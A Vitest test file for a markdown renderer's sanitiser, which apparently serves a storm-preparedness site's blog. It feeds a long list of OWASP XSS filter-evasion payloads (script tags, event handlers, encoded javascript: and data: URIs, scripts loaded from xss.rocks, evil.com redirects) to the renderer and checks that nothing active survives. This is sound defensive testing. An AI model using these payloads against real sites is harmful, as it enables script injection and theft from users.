// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown, safeHref, safeImageSrc } from './markdown';

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 p br hr strong em ul ol li blockquote a code pre table thead tbody tr th td img'.split(
    ' ',
  ),
);

/**
 * What no rendered body may contain, whatever the source, read as a browser parses it: a tag
 * beyond the document's few, an event handler or style attribute, a dangerous scheme in an
 * address, or an address that leaves the site through `//` or a backslash.
 */
function expectHarmless(html: string): void {
  // Parsed by jsdom as a browser would, without running anything.
  const body = new DOMParser().parseFromString(
    `<!doctype html><body>${html}</body>`,
    'text/html',
  ).body;
  for (const element of body.querySelectorAll('*')) {
    expect(ALLOWED_TAGS, html).toContain(element.tagName.toLowerCase());
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      expect(name, html).not.toMatch(/^on|^style$|^background$|^dynsrc$|^lowsrc$|^srcset$/);
      if (name === 'href' || name === 'src') {
        const folded = attribute.value
          .split('')
          .filter((c) => c.charCodeAt(0) > 0x20)
          .join('')
          .toLowerCase();
        expect(folded, html).not.toMatch(/^(javascript|vbscript|data|livescript|mocha|file):/);
        expect(folded, html).not.toMatch(/^\/\/|^\/\\|\\/);
        if (name === 'src') expect(folded, html).toMatch(/^https:\/\/|^\/uploads\//);
      }
    }
  }
}

/**
 * A selection of the OWASP XSS filter-evasion cheat sheet, as raw HTML (markdown-it escapes raw
 * HTML; sanitize-html is the second wall) and as markdown links and images.
 */
const OWASP_PAYLOADS: string[] = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="/\\evil.com">off-site</a>`,
  `<a href="//evil.com">off-site</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  // Markdown syntax: links and images.
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](jav&#x09;ascript:alert(1))`,
  `[click](&#106;avascript:alert(1))`,
  `[click](  javascript:alert(1)  )`,
  `[click](<javascript:alert(1)>)`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](//evil.com)`,
  `[click](/\\evil.com)`,
  `[click](\\\\evil.com)`,
  `[click](/%5Cevil.com)`,
  `[ref][x]\n\n[x]: javascript:alert(1)`,
  `![img](javascript:alert(1))`,
  `![img](data:image/png;base64,iVBORw0KGgo=)`,
  `![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![img](http://insecure.example.com/a.jpg)`,
  `![img](//evil.com/a.jpg)`,
  `![x" onerror="alert(1)](https://example.com/a.jpg)`,
  `![img](https://example.com/a.jpg "t\\" onerror=\\"alert(1)")`,
  `<https://example.com/" onmouseover="alert(1)>`,
  `[a](https://example.com/" onmouseover="alert(1))`,
];

describe('the check itself', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="/\\evil.com">x</a>',
    '<a href="//evil.com">x</a>',
    '<p style="x:expression(alert(1))">x</p>',
    '<svg onload=alert(1)>',
    '<img src="data:image/png;base64,AAAA">',
  ])('catches %s when it is not sanitised', (html) => {
    expect(() => expectHarmless(html)).toThrow();
  });
});

describe('renderMarkdown: the OWASP XSS filter-evasion payloads', () => {
  it.each(OWASP_PAYLOADS.map((payload) => [payload]))('leaves nothing active of %s', (payload) => {
    expectHarmless(renderMarkdown(payload));
    // Inside a paragraph and a list too: the parser's context changes what it makes of them.
    expectHarmless(renderMarkdown(`Some text ${payload} more text`));
    expectHarmless(renderMarkdown(`- item\n- ${payload}\n\n> ${payload}`));
  });

  it('has a good selection of them', () => {
    expect(OWASP_PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });
});

describe('renderMarkdown: what a post may contain', () => {
  it('keeps headings, lists, emphasis, quotes, code and tables', () => {
    const html = renderMarkdown(
      '## Before the storm\n\n- **Shutters** up\n- *Furniture* in\n\n> Stay safe\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    expect(html).toContain('<h2>Before the storm</h2>');
    expect(html).toContain('<li><strong>Shutters</strong> up</li>');
    expect(html).toContain('<em>Furniture</em>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<table>');
  });

  it('keeps https and same-site links, with rel noopener', () => {
    expect(renderMarkdown('[NOAA](https://www.nhc.noaa.gov/)')).toContain(
      '<a href="https://www.nhc.noaa.gov/" rel="noopener noreferrer">NOAA</a>',
    );
    expect(renderMarkdown('[our plans](/pricing)')).toContain('href="/pricing"');
    expect(renderMarkdown('[call](tel:+13055550101)')).toContain('href="tel:+13055550101"');
    expect(renderMarkdown('[top](#top)')).toContain('href="#top"');
  });

  it('keeps https and uploaded images, lazily loaded, with their alt text', () => {
    const uploaded = renderMarkdown('![A dock at dusk](/uploads/blog/abc-960w.webp)');
    expect(uploaded).toContain(
      '<img src="/uploads/blog/abc-960w.webp" alt="A dock at dusk" loading="lazy" />',
    );
    expect(renderMarkdown('![Bay](https://images.example.com/bay.jpg)')).toContain(
      'src="https://images.example.com/bay.jpg"',
    );
  });

  it('drops an image whose address is refused, and a link target but not its text', () => {
    expect(renderMarkdown('![x](http://insecure.example.com/a.jpg)')).not.toContain('<img');
    expect(renderMarkdown('![x](/api/auth/me)')).not.toContain('<img');
    expect(renderMarkdown('![x](/uploads/../api/x.jpg)')).not.toContain('<img');
    const link = renderMarkdown('[there](/\\evil.com) [here](//evil.com)');
    expect(link).not.toMatch(/href/);
    expect(link).toContain('there');
    expect(link).toContain('here');
  });
});

describe('safeHref and safeImageSrc', () => {
  it.each([
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    '//evil.com',
    '/\\evil.com',
    '\\\\evil.com',
    '/\t/evil.com',
    'relative-without-slash',
  ])('refuses the link %j', (href) => {
    expect(safeHref(href)).toBeUndefined();
  });

  it.each([
    'https://example.com',
    'http://example.com/a',
    '/blog/a-post',
    '#part',
    'mailto:a@b.co',
  ])('keeps the link %j', (href) => expect(safeHref(href)).toBe(href));

  it.each([
    'http://example.com/a.jpg',
    '//evil.com/a.jpg',
    '/api/x.jpg',
    '/uploads/../x.jpg',
    'data:image/png;base64,AAAA',
  ])('refuses the image %j', (src) => expect(safeImageSrc(src)).toBeUndefined());
});
